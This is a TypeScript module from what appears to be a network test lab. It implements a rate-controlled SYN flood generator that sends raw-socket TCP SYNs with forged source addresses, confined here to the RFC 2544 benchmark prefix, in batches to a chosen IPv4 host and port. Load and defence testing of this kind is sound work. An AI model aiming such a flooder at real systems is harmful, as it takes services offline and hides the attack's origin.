/**
 * A SYN flood in the lab: SYNs of addresses that nobody has, by raw sockets, at a set rate. Run as a script it
 * is the generator: reads FloodOptions as one JSON line from its standard input, prints one FloodResult.
 */
import { setTimeout as wait } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { sockaddr } from "../../host/linux/address.ts";
import { AF_INET, SOCK_RAW, libc } from "../../host/linux/libc.ts";
import { MessageArray } from "../../host/linux/mmsg.ts";
import type { LabNode } from "../../host/lab/lab.ts";
import { runAsScript, say } from "../../host/lab/script.ts";
import { SYN, buildTcp, option } from "./packet.ts";

export interface FloodOptions {
  /** IPv4. */
  readonly address: string;
  readonly port: number;
  /** SYNs a second. */
  readonly rate: number;
  readonly seconds: number;
  readonly seed: number;
}

export interface FloodResult {
  readonly sent: number;
  /** The kernel did not take them. */
  readonly refused: number;
  readonly seconds: number;
  /** Of the generator, the path up to the forwarder's device included. */
  readonly cpuSeconds: number;
}

/** Sources lie in the benchmark prefix of RFC 2544, which the lab's router throws away. */
export const SPOOFED = "198.18.0.0/15";

const SELF = fileURLToPath(import.meta.url);
const MESSAGES = 32;
const IPPROTO_RAW = 255;
const NAP_MS = 1;

/** Runs the generator on a node. */
export async function synFlood(node: LabNode, options: FloodOptions): Promise<FloodResult> {
  const { stdout, stderr, status } = await node.run(process.execPath, [SELF], {
    input: JSON.stringify(options) + "\n",
  });
  if (status !== 0) throw new Error(`labsynflood: status ${status}: ${stderr}`);
  return JSON.parse(stdout) as FloodResult;
}

async function run({ address, port, rate, seconds, seed }: FloodOptions): Promise<FloodResult> {
  const batch = new Batch(address, port, seed);
  const cpu = process.cpuUsage();
  const started = performance.now();
  const limit = rate * seconds;
  let tried = 0;
  let refused = 0;
  for (let ms = 0; ms < seconds * 1000; ms = performance.now() - started) {
    // What is due by now, but no burst after a pause: a flood is steady.
    const due = Math.min(limit, (rate * ms) / 1000);
    if (due - tried > rate / 20) tried = Math.floor(due - rate / 20);
    while (tried + MESSAGES <= due) {
      refused += batch.send();
      tried += MESSAGES;
    }
    await wait(NAP_MS);
  }
  const used = process.cpuUsage(cpu);
  return {
    sent: batch.sent,
    refused,
    seconds: (performance.now() - started) / 1000,
    cpuSeconds: (used.user + used.system) / 1e6,
  };
}

/** Messages for one sendmmsg, built once; a SYN sets addresses, ports, numbers and sums only. */
class Batch {
  sent = 0;
  readonly #fd: number;
  readonly #messages = new MessageArray(MESSAGES);
  readonly #views: DataView[] = [];
  #state: number;
  /** Sums over everything but source address, source port and sequence number. */
  #ipSum = 0;
  #tcpSum = 0;

  constructor(address: string, port: number, seed: number) {
    this.#state = seed >>> 0 || 1;
    this.#fd = libc().socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    const one = buildTcp({
      source: "0.0.0.0",
      destination: address,
      sourcePort: 0,
      destinationPort: port,
      seq: 0,
      ack: 0,
      flags: SYN,
      window: 64_240,
      options: Buffer.concat([
        option.mss(1460),
        option.sackPermitted(),
        option.timestamps(0x1234, 0),
        Uint8Array.of(1),
        option.windowScale(7),
      ]),
    });
    const packets = new Uint8Array(new ArrayBuffer(one.length * MESSAGES));
    const name = sockaddr(address, 0);
    for (let index = 0; index < MESSAGES; index++) {
      const at = index * one.length;
      packets.set(one, at);
      this.#views.push(new DataView(packets.buffer, at, one.length));
      this.#messages.point(index, packets, at, one.length);
      this.#messages.bytes.set(name, this.#messages.name(index, name.length));
    }
    const first = this.#views[0]!;
    this.#tcpSum = ~first.getUint16(36) & 0xffff;
    this.#ipSum = ~first.getUint16(10) & 0xffff;
  }

  /** Sends as many SYNs as fit one call, all different; returns how many the kernel did not take. */
  send(): number {
    for (const view of this.#views) {
      const a = this.#next();
      const b = this.#next();
      const host = 0x0000 | (a & 0x1ffff);
      const source = (0xc6120000 + host) >>> 0;
      const port = 1024 + ((a >>> 17) % 60_000);
      view.setUint32(12, source);
      view.setUint16(20, port);
      view.setUint32(24, b);
      const words = (source >>> 16) + (source & 0xffff);
      view.setUint16(10, folded(this.#ipSum + words));
      view.setUint16(36, folded(this.#tcpSum + words + port + (b >>> 16) + (b & 0xffff)));
    }
    let refused = 0;
    for (let next = 0; next < MESSAGES;) {
      const sent = this.#messages.send(this.#fd, next, MESSAGES);
      if (sent > 0) this.sent += sent;
      else refused += 1;
      next += Math.max(sent, 1);
    }
    return refused;
  }

  /** xorshift32. */
  #next(): number {
    let state = this.#state;
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (this.#state = state >>> 0);
  }
}

function folded(sum: number): number {
  let rest = (sum & 0xffff) + Math.floor(sum / 65536);
  rest = (rest & 0xffff) + (rest >>> 16);
  return ~rest & 0xffff;
}

runAsScript(import.meta.url, async (options: FloodOptions) => say(await run(options)));
